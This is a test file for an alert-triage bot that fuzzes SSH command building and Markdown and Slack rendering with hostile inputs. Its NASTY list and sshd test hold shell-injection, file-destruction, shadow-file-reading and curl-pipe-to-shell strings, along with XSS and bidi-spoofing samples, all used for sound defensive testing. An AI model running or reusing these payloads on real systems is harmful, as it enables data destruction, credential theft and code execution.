/**
 * Injection (SECURITY.md): whatever an alert, a chat command or a node puts in a string — shell metacharacters,
 * quotes, newlines, NUL, huge lengths, Unicode — (1) the commands sent to a node are fixed words, validated
 * integers and tokens only, and (2) the Markdown report never turns it into a mention, link or formatting.
 *
 * The pipeline runs for real (triageNode, parsers, analysis, report templates); only the node is canned: a
 * Connector that records every StepRequest and the command line the runner would send for it, and answers with
 * real playbook output (test/fixtures) into which the hostile strings are put the way the kernel shows them.
 * One more test sends a hostile alert through the service to a real sshd whose ForceCommand logs the command
 * line exactly as it arrives.
 */
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import fc from 'fast-check';
import { Lexer, type Token, type Tokens } from 'marked';
import { afterAll, describe, expect, it } from 'vitest';
import { configSchema, type Config } from '../../src/config/schema.js';
import { TriageError } from '../../src/errors.js';
import { triageNode } from '../../src/pipeline.js';
import { playbookScript } from '../../src/playbook/steps.js';
import { buildStepCommand, buildStopCommand, type PlaybookDelivery } from '../../src/remote/command.js';
import { SAFE_ARG } from '../../src/playbook/steps.js';
import type { Connector, StepRequest } from '../../src/remote/session.js';
import { escapeMarkdown, replaceControl } from '../../src/report/escape.js';
import { renderReport } from '../../src/report/markdown.js';
import { markdownToHtml } from '../../src/report/page.js';
import type { TriageFn } from '../../src/service.js';
import { startSshd, stopAllSshd } from '../support/sshd.js';
import { buildApp, tempDir, testConfig, webhook } from '../support/service.js';
import { refusalAnswer, type AnswerContext } from '../../src/report/slack/answers.js';
import { parseCommand } from '../../src/intake/slack/command.js';
import { resolvedMessage, startMessage, verdictMessage } from '../../src/report/slack/messages.js';
import type { SlackMessage } from '../../src/report/slack/blocks.js';
import type { TriageResult, Trigger } from '../../src/model/triage.js';
import type { TriageView } from '../../src/model/triage.js';

const FIXTURES = join(import.meta.dirname, '..', 'fixtures');
const RANK = readFileSync(join(FIXTURES, 'playbook-rank.txt'), 'utf8');
const CAPTURE = readFileSync(join(FIXTURES, 'playbook-capture-perf-pid.txt'), 'utf8');
const FIXTURE_NONCE = '0123456789abcdef';
const FIXTURE_PID = '27793';
const FIXTURE_COMM = 'preader';
const FIXTURE_PATH = '/var/tmp/pft-fixture-reader.dat';

// ---------------------------------------------------------------------------------------------------------
// Hostile strings

const NASTY = [
  '$(reboot)', '`id`', "'; rm -rf / #", '"; id; "', '\\', '\n', '\r\n', '\0', 'a\0b', '${IFS}cat${IFS}/etc/shadow',
  '| nc evil 1', '&& curl evil|sh', '> /etc/passwd', '<!channel>', '<!here|here>', '<@U012345>', '@channel', '@here',
  '<http://evil.example|click>', '[click](http://evil.example)', '![x](http://evil.example/x.png)', 'https://evil.example',
  'www.evil.example', 'me@evil.example', '*bold*', '_it_', '**b**', '~~s~~', '`code`', '```\nfence\n```', '# heading',
  '- item', '1. item', '---', '===', '> quote', '| a | b |', '<script>alert(1)</script>', '<img src=x onerror=alert(1)>',
  '&lt;b&gt;', '&#60;', '\u202eevil', '\u2028line', '\u2029para', '\ufeff', '😀'.repeat(20), '١٢٣', 'ｒｅｂｏｏｔ', '     indented',
  '\tx', 'a  ', '\\*', '\\\\`', '[^1]', 'javascript:alert(1)', ':emoji:', '*', '_', '~', '|', '#',
  // Bidirectional-text controls: each can make a name display as another (a host, a path) in Slack and the report.
  'prod-db-1\u202e0019:lanretni-ved\u202c', '\u202a', '\u202b', '\u202c', '\u202d', '\u202e', '\u2066', '\u2067', '\u2068', '\u2069',
  '\u200e', '\u200f', '\u061c', '/var/lib/\u2067gpj.exe\u2069',
];

/** Bidi controls that must never reach any output (embeddings, overrides, isolates, marks). */
const BIDI = /[\u202a-\u202e\u2066-\u2069\u200e\u200f\u061c]/;

const hostile = fc.oneof(
  { weight: 3, arbitrary: fc.constantFrom(...NASTY) },
  { weight: 2, arbitrary: fc.array(fc.constantFrom(...NASTY), { minLength: 1, maxLength: 4 }).map((a) => a.join('')) },
  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 60 }) },
  { weight: 1, arbitrary: fc.string({ unit: 'grapheme', maxLength: 40 }) },
  { weight: 1, arbitrary: fc.tuple(fc.constantFrom(...NASTY), fc.integer({ min: 1000, max: 20_000 })).map(([s, n]) => s.repeat(Math.ceil(n / Math.max(1, s.length))).slice(0, n)) },
);

// ---------------------------------------------------------------------------------------------------------
// What the kernel and the playbook do to a node-side string before the bot sees it

/** comm: at most 15 bytes, no NUL (TASK_COMM_LEN). */
function asComm(s: string): string {
  const b = Buffer.from(s.replace(/\0/g, ''), 'utf8').subarray(0, 15);
  return b.toString('utf8');
}

/** A maps pathname: the kernel escapes a newline as \012 (and so cannot end a line early). */
function asMapsPath(s: string): string {
  return `/var/tmp/${s.replace(/\n/g, '\\012').replace(/\0/g, '')}`;
}

/** cmdline: the playbook turns NUL and newline into spaces and keeps 512 bytes. */
function asCmdline(s: string): string {
  return Buffer.from(s.replace(/[\0\n]/g, ' '), 'utf8').subarray(0, 512).toString('utf8');
}

interface NodeStrings {
  comm: string;
  path: string;
  cmdline: string;
}

function rankOutput(nonce: string, n: NodeStrings): string {
  return RANK.replaceAll(FIXTURE_NONCE, nonce)
    .split('\n')
    .map((l) => (l.startsWith(`${FIXTURE_PID} (${FIXTURE_COMM}) `) ? `${FIXTURE_PID} (${n.comm}) ${l.slice(FIXTURE_PID.length + FIXTURE_COMM.length + 4)}`.split(' ').slice(0, 28 + (n.comm.split(' ').length - 1)).join(' ') : l))
    .join('\n');
}

function captureOutput(nonce: string, n: NodeStrings): string {
  return CAPTURE.replaceAll(FIXTURE_NONCE, nonce)
    .replaceAll(FIXTURE_PATH, n.path)
    .replace(`${FIXTURE_PID} (${FIXTURE_COMM}) `, `${FIXTURE_PID} (${n.comm}) `)
    .replace(/^\|\.\/preader .*$/m, `|${n.cmdline}`);
}

// ---------------------------------------------------------------------------------------------------------
// The recording node

interface Sent {
  req: StepRequest;
  lines: Record<PlaybookDelivery, { line: string; argv: readonly string[]; stop: string }>;
}

/** A node that answers with canned playbook output and records what the runner would send it. */
function cannedNode(strings: NodeStrings, sent: Sent[]): Connector {
  return {
    async open() {
      return {
        address: 'canned',
        async run(req: StepRequest) {
          const spec = { args: req.args, timeoutSeconds: req.timeoutSeconds, sudo: true };
          const lines = {} as Sent['lines'];
          for (const playbook of ['stdin', 'installed'] as const) {
            const c = buildStepCommand({ ...spec, playbook });
            lines[playbook] = { line: c.line, argv: c.argv, stop: buildStopCommand({ ...spec, playbook }).line };
          }
          sent.push({ req, lines });
          const nonce = req.args[1]!;
          const stdout = req.args[0] === 'rank' ? rankOutput(nonce, strings) : captureOutput(nonce, strings);
          return { stdout, stderr: '', exitCode: 0, exitSignal: null, truncated: false, ms: 1 };
        },
        async close() {},
      };
    },
  };
}

const STDIN_LINE = /^exec sudo -n timeout -k 2 [1-9]\d{0,4} sh -s -- (rank|capture) [0-9a-f]{32}( [a-z0-9]{1,10})*$/;
const INSTALLED_LINE = /^exec sudo -n \/usr\/local\/lib\/pagefault-triage\/pft-step [1-9]\d{0,4} (rank|capture) [0-9a-f]{32}( [a-z0-9]{1,10})*$/;
const STOP_LINE = /^exec pkill -TERM -x -f -- 'timeout -k 2 [1-9]\d{0,4} (sh -s --|\/bin\/sh \/usr\/local\/lib\/pagefault-triage\/playbook\.sh) (rank|capture) [0-9a-f]{32}( [a-z0-9]{1,10})*'$/;

/** The commands a triage sent are fixed words and tokens, and none carries any of the hostile strings. */
function expectCleanCommands(sent: readonly Sent[], strings: readonly string[]): void {
  expect(sent.length).toBeGreaterThan(0);
  for (const { req, lines } of sent) {
    expect(req.script).toBe(playbookScript()); // the script is fixed text: nothing was put into it
    for (const a of req.args) expect(a).toMatch(SAFE_ARG);
    expect(lines.stdin.line).toMatch(STDIN_LINE);
    expect(lines.installed.line).toMatch(INSTALLED_LINE);
    expect(lines.stdin.stop).toMatch(STOP_LINE);
    expect(lines.installed.stop).toMatch(STOP_LINE);
    for (const s of strings) {
      // Anything with a character outside the command alphabet cannot be in a command that matched above;
      // check the longer ones literally too.
      if (s.length >= 4) for (const l of Object.values(lines)) expect(l.line.includes(s) || l.stop.includes(s)).toBe(false);
    }
  }
}

// ---------------------------------------------------------------------------------------------------------
// Markdown checks

function walk(tokens: readonly Token[], visit: (t: Token, parents: readonly Token[]) => void, parents: Token[] = []): void {
  for (const t of tokens) {
    visit(t, parents);
    const kids: Token[] = [];
    const anyT = t as Token & { tokens?: Token[]; items?: Token[]; header?: { tokens: Token[] }[]; rows?: { tokens: Token[] }[][] };
    if (anyT.tokens) kids.push(...anyT.tokens);
    if (anyT.items) kids.push(...anyT.items);
    if (anyT.header) for (const c of anyT.header) kids.push(...c.tokens);
    if (anyT.rows) for (const r of anyT.rows) for (const c of r) kids.push(...c.tokens);
    walk(kids, visit, [...parents, t]);
  }
}

const HEADINGS_2 = new Set(['Who is faulting', 'Where the faults land', 'System memory', 'Major faults before the triage', 'This node before', 'Next steps', 'Method']);

/** What no report may contain, whatever the data: links, images, HTML, strikethrough, nested lists, rules. */
/** The bot's own links to reports: the one kind of URL a report may show as it is. */
const OWN_REPORT_URL = /http:\/\/127\.0\.0\.1:\d+\/reports\/[\w-]{22}(\?sig=[\w-]+)?/g;

function expectInertMarkdown(md: string): void {
  expect(md).not.toMatch(BIDI);
  const tokens = new Lexer({ gfm: true }).lex(md);
  // Inside a code span nothing is read as markup; outside, mentions, autolinks and raw HTML start with these, and
  // each one must be backslash-escaped.
  const spans: string[] = [];
  walk(tokens, (t) => {
    if (t.type === 'codespan') spans.push(t.raw);
  });
  const outside = spans.reduce((text, raw) => text.replace(raw, ''), md).replace(OWN_REPORT_URL, '');
  expect(outside).not.toMatch(/(^|[^\\])(\\\\)*[@<]/);
  expect(outside).not.toMatch(/(^|[^\\])(\\\\)*:\/\//);
  expect(outside).not.toMatch(/(^|[^\\])(\\\\)*www\./i);
  let h1 = 0;
  walk(tokens, (t, parents) => {
    // The one kind of link a report has: the bot's own links to the node's earlier reports.
    if (t.type === 'link') expect((t as Tokens.Link).href).toMatch(/^http:\/\/127\.0\.0\.1:\d+\/reports\/[\w-]{22}(\?sig=[\w-]+)?$/);
    expect(['image', 'html', 'del', 'hr', 'br', 'def']).not.toContain(t.type);
    if (t.type === 'list') expect(parents.some((p) => p.type === 'list_item')).toBe(false);
    if (t.type === 'heading') {
      const h = t as Tokens.Heading;
      if (h.depth === 1) h1++;
      else expect(HEADINGS_2.has(h.text), h.text).toBe(true);
    }
    if (t.type === 'code') expect(parents).toEqual([]); // only the template's own fences, never inside a paragraph or cell
  });
  expect(h1).toBe(1);
  // Every table row has as many cells as its header: no value added a column.
  const lines = md.split('\n');
  let cells = -1;
  for (const line of lines) {
    if (!line.startsWith('|')) {
      cells = -1;
      continue;
    }
    const n = line.replace(/\\./g, '').split('|').length;
    if (cells === -1) cells = n;
    else expect(n, line).toBe(cells);
  }
  // The bot's own links (the report itself, the node's earlier reports) are the only links.
  const html = markdownToHtml(md).replace(/<a href="http:\/\/127\.0\.0\.1:\d+\/reports\/[\w-]{22}(\?sig=[\w-]+)?"[^>]*>/g, '');
  expect(html).not.toMatch(/<(a|img|script|iframe|object|embed|style|del|hr)\b/i);
  expect(html).not.toMatch(BIDI);
}

// ---------------------------------------------------------------------------------------------------------

function cannedConfig(): Config {
  return configSchema.parse({
    playbook: { sampleSeconds: 2, captureSeconds: 1 },
    nodes: [{ name: 'node-1', local: true, match: { cluster: 'c1' } }],
  });
}

describe('commands sent to a node', () => {
  it('never carry alert labels, annotations or node-side strings (comm, paths, cmdline)', async () => {
    const config = cannedConfig();
    const node = config.nodes[0]!;
    let verdicts = 0;
    await fc.assert(
      fc.asyncProperty(hostile, hostile, hostile, fc.dictionary(fc.string({ maxLength: 20 }), hostile, { maxKeys: 4 }), hostile, async (comm, path, cmdline, labels, annotation) => {
        const strings = { comm: asComm(comm), path: asMapsPath(path), cmdline: asCmdline(cmdline) };
        const sent: Sent[] = [];
        const trigger = {
          kind: 'alert' as const,
          alertname: 'NodeMemoryMajorPagesFaults',
          fingerprint: 'f00d',
          startsAt: '2026-11-27T03:12:00Z',
          labels: { ...labels, instance: annotation, cluster: 'c1' },
          annotations: { summary: annotation, description: cmdline },
        };
        const r = await triageNode(config, node, trigger, { connector: cannedNode(strings, sent) });
        expectCleanCommands(sent, [comm, path, cmdline, annotation, ...Object.keys(labels), ...Object.values(labels)]);
        if (r.verdict.kind === 'mmap-read') verdicts++;
        expectInertMarkdown(renderReport(r, { reportUrl: 'http://127.0.0.1:9095/reports/AAAAAAAAAAAAAAAAAAAAAA' }));
      }),
      { numRuns: 100 },
    );
    // The hostile strings went all the way into the verdict, not only into parse failures.
    console.log(`[injection] ${verdicts} of 100 hostile triages gave an mmap-read verdict naming the hostile comm and path`);
    expect(verdicts).toBeGreaterThan(50);
  }, 300_000);

  it('the verdict and report name hostile node-side strings literally (escaped), not as markup', async () => {
    const config = cannedConfig();
    const strings = { comm: asComm('<!channel>*x*'), path: asMapsPath('[x](http://evil.example) `y` @here'), cmdline: asCmdline('rm -rf / | $(id)') };
    const sent: Sent[] = [];
    const r = await triageNode(config, config.nodes[0]!, { kind: 'cli' }, { connector: cannedNode(strings, sent) });
    expect(r.verdict.kind).toBe('mmap-read');
    expect(r.verdict.comm).toBe(strings.comm);
    expect(r.verdict.path).toBe(strings.path);
    const md = renderReport(r, { reportUrl: null });
    expect(md).toContain(escapeMarkdown(strings.path));
    expect(md).toContain(escapeMarkdown(strings.comm));
    expectInertMarkdown(md);
    expectCleanCommands(sent, Object.values(strings));
  });

  it('never carry Slack command text or a Slack user: only inventory names reach a triage', async () => {
    const dir = tempDir('pft-inject-');
    const seen: { node: string; sent: Sent[] }[] = [];
    const triage: TriageFn = async (config, node, trigger, options) => {
      const sent: Sent[] = [];
      seen.push({ node: node.name, sent });
      return triageNode(config, node, trigger, { ...options, connector: cannedNode({ comm: FIXTURE_COMM, path: FIXTURE_PATH, cmdline: 'x' }, sent) });
    };
    const { app, service } = await buildApp(testConfig(dir.path, { playbook: { sampleSeconds: 2, captureSeconds: 1 } }), { triage, render: renderReport });
    try {
      const names = service.config.nodes.map((n) => n.name);
      await fc.assert(
        fc.asyncProperty(hostile, hostile, async (text, user) => {
          let admitted: string | undefined;
          try {
            admitted = (await service.requestTriage(text, { kind: 'slack', user, channel: text })).node;
          } catch (err) {
            expect(err).toBeInstanceOf(TriageError);
            expect((err as TriageError).code).toBe('unknown_node');
          }
          if (admitted !== undefined) expect(names).toContain(admitted);
          await service.dispatcher.idle();
          for (const s of seen.splice(0)) {
            expect(names).toContain(s.node);
            expectCleanCommands(s.sent, [text, user]);
          }
        }),
        { numRuns: 100 },
      );
      // A hostile user name is in the stored report as text only.
      const { id } = await service.requestTriage('node-1', { kind: 'slack', user: '<!channel> [x](http://evil.example)', channel: null });
      await service.dispatcher.idle();
      const md = (await service.getReport(id))!.markdown;
      expect(md).toContain(`Slack command by ${escapeMarkdown('<!channel> [x](http://evil.example)')}`);
      expectInertMarkdown(md);
    } finally {
      await app.close();
      dir.remove();
    }
  });
});

// ---------------------------------------------------------------------------------------------------------
// Slack

const REPORT_URL = 'http://127.0.0.1:9095/reports/AAAAAAAAAAAAAAAAAAAAAA?sig=BBBBBBBBBBBBBBBBBBBBBB';

/** The <…> tokens the templates write themselves: a date, a mention of a real Slack user id, our report link. */
const OWN_TOKENS = [
  /<!date\^\d+\^\{date_short_pretty\} \{time\}\|[0-9: UTC-]+>/g,
  /<@[UW][A-Z0-9]{2,20}>/g,
  new RegExp(`<${REPORT_URL.replace(/[?|.]/g, '\\$&')}\\|full report>`, 'g'),
];

interface SlackText {
  where: string;
  type: 'mrkdwn' | 'plain_text' | 'fallback';
  text: string;
}

function slackTexts(m: SlackMessage): SlackText[] {
  const out: SlackText[] = [{ where: 'text', type: 'fallback', text: m.text }];
  m.blocks.forEach((b, i) => {
    if (b.type === 'header') out.push({ where: `blocks[${i}] header`, type: 'plain_text', text: b.text.text });
    if (b.type === 'section') out.push({ where: `blocks[${i}] section`, type: 'mrkdwn', text: b.text.text });
    if (b.type === 'context') b.elements.forEach((e, j) => out.push({ where: `blocks[${i}].elements[${j}]`, type: e.type, text: e.text }));
    if (b.type === 'actions') b.elements.forEach((e, j) => out.push({ where: `blocks[${i}].elements[${j}] button`, type: 'plain_text', text: e.text.text }));
  });
  return out;
}

/** No mention, channel ping or link but the templates' own; every & is an entity. */
function expectNoSlackTokens(texts: readonly SlackText[]): void {
  for (const t of texts) {
    let rest = t.text;
    for (const re of OWN_TOKENS) rest = rest.replace(re, '');
    expect(rest, `${t.where}: ${JSON.stringify(t.text)}`).not.toMatch(/[<>]/);
    expect(rest, `${t.where}: ${JSON.stringify(t.text)}`).not.toMatch(/&(?!amp;|lt;|gt;)/);
    expect(t.text, `${t.where}: ${JSON.stringify(t.text)}`).not.toMatch(BIDI);
  }
}

/** mrkdwn with its code spans taken out: what could format. Code spans must pair up. */
function outsideCode(text: string): string {
  expect((text.match(/`/g)?.length ?? 0) % 2, `unbalanced code span in ${JSON.stringify(text)}`).toBe(0);
  return text.replace(/`[^`]*`/g, '`…`');
}

/** The same string with every character made harmless, at the same length (so cuts fall alike). */
const tame = (s: string): string => s.replace(/[^\n]/gu, 'x');

function slackRun(config: Config, strings: NodeStrings, trigger: Trigger): Promise<{ result: TriageResult; view: TriageView }> {
  return triageNode(config, config.nodes[0]!, trigger, { connector: cannedNode(strings, []) }).then((result) => ({
    result,
    view: {
      id: 'AAAAAAAAAAAAAAAAAAAAAA',
      node: result.node,
      trigger,
      status: result.verdict.kind === 'failed' ? 'failed' : 'done',
      createdAt: result.startedAt,
      startedAt: result.startedAt,
      finishedAt: result.finishedAt,
      verdict: result.verdict,
      reportUrl: REPORT_URL,
    },
  }));
}

describe('Slack output', () => {
  it('verdict, start and resolved messages never form a mention, link or formatting from hostile strings (property)', async () => {
    const config = cannedConfig();
    let compared = 0;
    await fc.assert(
      fc.asyncProperty(hostile, hostile, hostile, hostile, hostile, async (comm, path, cmdline, instance, user) => {
        const make = (f: (s: string) => string) => {
          const strings = { comm: asComm(f(comm)), path: asMapsPath(f(path)), cmdline: asCmdline(f(cmdline)) };
          const alert: Trigger = { kind: 'alert', alertname: f(instance), fingerprint: 'f', startsAt: '2026-11-27T03:12:00Z', labels: { instance: f(instance), cluster: 'c1' }, annotations: {} };
          const slack: Trigger = { kind: 'slack', user: f(user), channel: null };
          return { strings, alert, slack };
        };
        const render = async (f: (s: string) => string) => {
          const { strings, alert, slack } = make(f);
          const out: { kind: string; verdict: string; messages: SlackMessage[] } = { kind: '', verdict: '', messages: [] };
          for (const trigger of [alert, slack]) {
            const { result, view } = await slackRun(config, strings, trigger);
            out.kind += result.verdict.kind;
            out.verdict += JSON.stringify([result.verdict.kind, result.verdict.notes.length, result.verdict.failure?.code]);
            out.messages.push(verdictMessage({ view, result, reportUrl: REPORT_URL }, '/pagefault'));
            out.messages.push(startMessage({ ...view, sampleSeconds: 2, captureSeconds: 1 }, '/pagefault'));
          }
          out.messages.push(resolvedMessage({ node: 'node-1', fingerprint: 'f', startsAt: '2026-11-27T03:12:00Z', cancelled: [], triage: { id: 'AAAAAAAAAAAAAAAAAAAAAA', status: 'running' }, alertname: f(instance), instance: f(path), endsAt: '2026-11-27T03:40:00Z' }));
          return out;
        };
        const hostileRun = await render((s) => s);
        for (const m of hostileRun.messages) expectNoSlackTokens(slackTexts(m));
        // Formatting: outside code spans, the mrkdwn must read as it does with harmless strings of the same length.
        const tameRun = await render(tame);
        if (tameRun.verdict !== hostileRun.verdict) return;
        compared++;
        hostileRun.messages.forEach((m, i) => {
          const a = slackTexts(m).filter((t) => t.type === 'mrkdwn');
          const b = slackTexts(tameRun.messages[i]!).filter((t) => t.type === 'mrkdwn');
          expect(a.map((t) => outsideCode(t.text))).toEqual(b.map((t) => outsideCode(t.text)));
        });
      }),
      { numRuns: 60 },
    );
    console.log(`[injection] Slack: ${compared} of 60 hostile runs compared with their harmless twin`);
    expect(compared).toBeGreaterThan(30);
  });

  it('answers to hostile slash command text quote it inertly (property)', () => {
    const ctx: AnswerContext = { command: '/pagefault', nodes: ['node-1', 'local'], sampleSeconds: 5, captureSeconds: 5, restricted: false };
    fc.assert(
      fc.property(hostile, fc.array(hostile, { maxLength: 3 }), (first, rest) => {
        const text = [first, ...rest].join(' ');
        const cmd = parseCommand(text, ctx.nodes);
        if (cmd.kind !== 'unknown_node' && cmd.kind !== 'bad_argument' && cmd.kind !== 'usage') return;
        const answer = refusalAnswer(ctx, cmd);
        expectNoSlackTokens([{ where: 'answer', type: 'mrkdwn', text: answer }]);
        // Outside code spans the answer is the template's wording: no emphasis, strike or code from the text.
        expect(outsideCode(answer).replace(/:[a-z_]+:/g, '')).not.toMatch(/[*_~]/);
      }),
      { numRuns: 500 },
    );
  });
});

describe('escapeMarkdown in every place the report puts a value', () => {
  /** The text a reader sees: what marked makes of the inline tokens (escapes give their character). */
  function inlineText(tokens: readonly Token[]): { text: string; types: Set<string> } {
    let text = '';
    const types = new Set<string>();
    walk(tokens, (t) => {
      types.add(t.type);
      if (t.type === 'text' && !(t as Tokens.Text).tokens) text += (t as Tokens.Text).text;
      if (t.type === 'escape') text += (t as Tokens.Escape).text;
    });
    return { text, types };
  }
  const squash = (s: string) => s.replace(/[\s\u00a0]+/g, ' ').trim();

  const contexts: { name: string; wrap: (v: string) => string; find: (tokens: Token[]) => Token[]; expected: (v: string) => string; allowed: string[] }[] = [
    { name: 'paragraph', wrap: (v) => `Node: ${v} and more`, find: (t) => t, expected: (v) => `Node: ${v} and more`, allowed: ['paragraph', 'text', 'escape'] },
    {
      name: 'table cell',
      wrap: (v) => `| a | b |\n|---|---|\n| ${v} | z |`,
      find: (t) => ((t[0] as Tokens.Table).rows[0]?.[0]?.tokens ?? []),
      expected: (v) => v,
      allowed: ['text', 'escape'],
    },
    { name: 'list item start', wrap: (v) => `- ${v} is being read`, find: (t) => t, expected: (v) => `${v} is being read`, allowed: ['list', 'list_item', 'paragraph', 'text', 'escape'] },
    { name: 'quoted note', wrap: (v) => `> - ${v} (note)`, find: (t) => t, expected: (v) => `${v} (note)`, allowed: ['blockquote', 'list', 'list_item', 'paragraph', 'text', 'escape'] },
    { name: 'heading', wrap: (v) => `# node-1: ${v}`, find: (t) => t, expected: (v) => `node-1: ${v}`, allowed: ['heading', 'text', 'escape'] },
    { name: 'after bold', wrap: (v) => `**Verdict:** ${v} · x`, find: (t) => ((t[0] as Tokens.Paragraph).tokens ?? []).slice(1), expected: (v) => `${v} · x`, allowed: ['text', 'escape'] },
  ];

  it.each(contexts)('a value in a $name reads literally and forms nothing (property)', ({ wrap, find, expected, allowed }) => {
    fc.assert(
      fc.property(hostile, (s) => {
        const md = wrap(escapeMarkdown(s));
        const tokens = new Lexer({ gfm: true }).lex(md).filter((t) => t.type !== 'space');
        const { text, types } = inlineText(find(tokens));
        for (const t of types) expect(allowed, `${t} in ${JSON.stringify(md)}`).toContain(t);
        expect(squash(text)).toBe(squash(expected(replaceControl(s))));
      }),
      { numRuns: 400 },
    );
  });
});

describe('a hostile alert through the service to a real sshd', () => {
  afterAll(async () => {
    await stopAllSshd();
  });

  it('the command lines the node receives are exactly the fixed ones', async () => {
    const dir = tempDir('pft-inject-sshd-');
    const log = join(dir.path, 'commands.log');
    // The node logs every command line as sshd hands it over, then runs it as the login shell would.
    const sshd = await startSshd({
      extraConfig: [`ForceCommand /bin/sh -c 'printf "%s\\n" "$SSH_ORIGINAL_COMMAND" >> ${log}; exec /bin/sh -c "$SSH_ORIGINAL_COMMAND"'`],
    });
    const config = testConfig(dir.path, {
      playbook: { sampleSeconds: 1, captureSeconds: 1 },
      nodes: [
        {
          name: 'node-1',
          match: { cluster: 'c1' },
          ssh: { host: sshd.host, port: sshd.port, user: sshd.user, privateKeyPath: sshd.privateKeyPath, hostKey: sshd.hostKeyFingerprint },
        },
      ],
    });
    const { app, service } = await buildApp(config, { render: renderReport, triage: triageNode });
    try {
      const evil = ["$(touch /tmp/pft-pwned)", '`touch /tmp/pft-pwned`', "'; touch /tmp/pft-pwned; '", '\n touch /tmp/pft-pwned', '<!channel>'];
      const res = await app.inject({
        method: 'POST',
        url: '/alerts',
        headers: { 'content-type': 'application/json' },
        payload: JSON.stringify(webhook([{ labels: { cluster: 'c1', instance: evil[0]!, job: evil[1]!, pod: evil[2]! }, annotations: { summary: evil[3]!, description: evil[4]! } }])),
      });
      expect(res.statusCode).toBe(202);
      const id = res.json().triages[0].id as string;
      await service.dispatcher.idle();
      const t = (await service.getTriage(id))!;
      expect(t.status, JSON.stringify(t.verdict)).toBe('done');
      const received = readFileSync(log, 'utf8').trim().split('\n');
      expect(received).toHaveLength(2);
      expect(received[0]).toMatch(/^exec timeout -k 2 \d+ sh -s -- rank [0-9a-f]{32} 1$/);
      expect(received[1]).toMatch(/^exec timeout -k 2 \d+ sh -s -- capture [0-9a-f]{32} 1 auto( \d+)*$/);
      for (const e of evil) for (const line of received) expect(line).not.toContain(e.trim());
      expect(() => readFileSync('/tmp/pft-pwned')).toThrow();
      expectInertMarkdown((await service.getReport(id))!.markdown);
    } finally {
      await app.close();
      await sshd.stop();
      dir.remove();
    }
  });
});
